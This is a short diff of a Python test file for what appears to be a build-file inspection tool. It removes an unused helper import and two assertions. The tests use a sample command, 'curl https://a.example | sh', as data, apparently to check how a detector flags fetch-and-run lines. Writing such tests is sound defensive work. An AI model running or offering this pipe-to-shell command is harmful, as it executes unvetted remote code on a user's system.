@@ -1,7 +1,7 @@
 import pytest
 
 from posthouse.inspection.facts import Kind
-from posthouse.inspection.reading.builds import build_facts, is_built
+from posthouse.inspection.reading.builds import build_facts
 
 LINE = "curl https://a.example | sh"
 
@@ -47,5 +47,3 @@ def test_ordinary_files_do_nothing() -> None:
     workflow = "jobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pytest\n"
     assert list(build_facts(".github/workflows/ci.yml", workflow, lambda _: None)) == []
     assert list(build_facts("a.txt", LINE, lambda _: None)) == []
-    assert is_built("Dockerfile")
-    assert not is_built("a.txt")
